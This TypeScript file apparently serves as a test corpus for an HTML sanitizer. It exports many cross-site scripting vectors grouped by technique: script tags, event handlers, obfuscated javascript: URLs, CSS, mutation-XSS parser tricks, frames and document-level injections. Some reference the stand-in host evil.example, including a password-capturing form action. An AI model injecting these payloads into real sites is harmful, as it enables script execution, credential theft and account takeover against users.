/** Ways to run a script where only text should be, grouped by technique; each calls `hit()` if it works. */

const scripts = [
  '<script>hit()</script>',
  '<SCRIPT>hit()</SCRIPT>',
  '<script >hit()</script >',
  '<script\n>hit()</script\n>',
  '<script/x>hit()</script>',
  '<script type="module">hit()</script>',
  '<script type="text/javascript">hit()</script>',
  '<script src="data:text/javascript,hit()"></script>',
  '<script src="//evil.example/x.js"></script>',
  '<script async defer>hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<<script>hit();//<</script>',
  '<script><!--\nhit()\n--></script>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="data:,hit()" /></svg>',
  '<svg><script xlink:href="data:,hit()" /></svg>',
  '<math><script>hit()</script></math>',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '</p><script>hit()</script><p>',
  '</textarea><script>hit()</script>',
  '</title><script>hit()</script>',
];

const handled: [tag: string, handlers: string[]][] = [
  ['img src=x:', ['onerror', 'onload', 'onclick', 'onmouseover', 'oNeRrOr']],
  ['svg', ['onload', 'onbegin', 'onclick', 'onfocusin']],
  ['body', ['onload', 'onpageshow', 'onhashchange', 'onresize', 'onscroll']],
  ['video src=x:', ['onerror', 'onloadstart', 'oncanplay']],
  ['audio src=x:', ['onerror', 'onloadstart']],
  ['video><source src=x:', ['onerror']],
  ['input autofocus', ['onfocus', 'onblur']],
  ['select autofocus', ['onfocus']],
  ['textarea autofocus', ['onfocus']],
  ['button autofocus', ['onfocus', 'onclick']],
  ['details open', ['ontoggle']],
  ['marquee', ['onstart', 'onfinish', 'onbounce']],
  ['iframe', ['onload']],
  ['object data=x:', ['onerror']],
  ['embed src=x:', ['onerror']],
  ['link rel=stylesheet href=x:', ['onerror', 'onload']],
  ['a href=#x tabindex=1 id=x', ['onfocus', 'onclick', 'onpointerenter']],
  ['p style="animation: x 1s"', ['onanimationstart', 'onanimationend']],
  ['p contenteditable', ['onbeforeinput', 'onpaste']],
  ['div style="transition: all 1s"', ['ontransitionend', 'onwheel']],
  ['form', ['onsubmit', 'onformdata']],
  ['dialog open', ['onclose', 'oncancel']],
];

const handlers = handled.flatMap(([tag, names]) => names.map((name) => `<${tag} ${name}="hit()">`));

const spellings = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  ' javascript:hit()',
  '\u0001javascript:hit()',
  'javascript&colon;hit()',
  '&#106;avascript:hit()',
  '&#x6A;avascript:hit()',
  'javascript:/*--></title>*/hit()',
  'javascript://example.com/%0Ahit()',
  'vbscript:hit()',
  'data:text/html,<script>parent.hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=',
  'blob:https://example.com/hit',
];

const addresses = [
  ...spellings.map((address) => `<a href="${address}">go</a>`),
  ...spellings
    .slice(0, 5)
    .flatMap((address) => [
      `<img src="${address}">`,
      `<iframe src="${address}"></iframe>`,
      `<form action="${address}"><input type=submit></form>`,
      `<button formaction="${address}">go</button>`,
      `<svg><a xlink:href="${address}"><text>go</text></a></svg>`,
      `<math href="${address}">go</math>`,
      `<area href="${address}">`,
      `<object data="${address}"></object>`,
      `<embed src="${address}">`,
    ]),
];

const styles = [
  '<style>@import "javascript:hit()";</style>',
  '<style>p { background: url("javascript:hit()") }</style>',
  '<style><img src=x: onerror=hit()></style>',
  '<p style="background: url(javascript:hit())">x</p>',
  '<p style="width: expression(hit())">x</p>',
  '<p style="-moz-binding: url(//evil.example/x.xml#x)">x</p>',
  '<p style="behavior: url(x.htc)">x</p>',
  '<link rel="stylesheet" href="javascript:hit()">',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x: onerror=hit()>"></noscript>',
  '<style><style/><img src=x: onerror=hit()>',
  '<title><a title="</title><img src=x: onerror=hit()>"></title>',
  '<textarea><a title="</textarea><img src=x: onerror=hit()>"></textarea>',
  '<xmp><p title="</xmp><img src=x: onerror=hit()>"></xmp>',
  '<noembed><p title="</noembed><img src=x: onerror=hit()>"></noembed>',
  '<math><mtext><table><mglyph><style><img src=x: onerror=hit()></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=hit()&gt;">',
  '<svg></p><style><a id="</style><img src=x: onerror=hit()>">',
  '<svg><foreignObject><p><style><img src=x: onerror=hit()></style></p></foreignObject></svg>',
  '<svg><desc><style><img src=x: onerror=hit()></style></desc></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x: onerror=hit()></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=hit()>',
  '<template><img src=x: onerror=hit()></template>',
  '<select><template><img src=x: onerror=hit()></template></select>',
  '<!--><img src=x: onerror=hit()>-->',
  '<![CDATA[><img src=x: onerror=hit()>]]>',
  '<?xml ?><img src=x: onerror=hit()>',
  '<p id="</p><img src=x: onerror=hit()>">',
  '&lt;img src=x: onerror=hit()&gt;',
];

const frames = [
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x: onerror=parent.hit()&gt;"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://evil.example/?https://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe src="https:\\\\evil.example"></iframe>',
  '<frameset><frame src="javascript:hit()"></frameset>',
  '<object type="text/html" data="data:text/html,<script>parent.hit()</script>"></object>',
  '<portal src="https://evil.example"></portal>',
];

const documents = [
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=javascript:hit()">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="import" href="https://evil.example">',
  '<html onclick="hit()"><body onload="hit()">',
  '<form id="x" action="https://evil.example"><input name="password"></form>',
  '<img name="getElementById"><a id="cookie"></a><form name="body"><input name="attributes"></form>',
];

export const vectors = { scripts, handlers, addresses, styles, mutations, frames, documents };
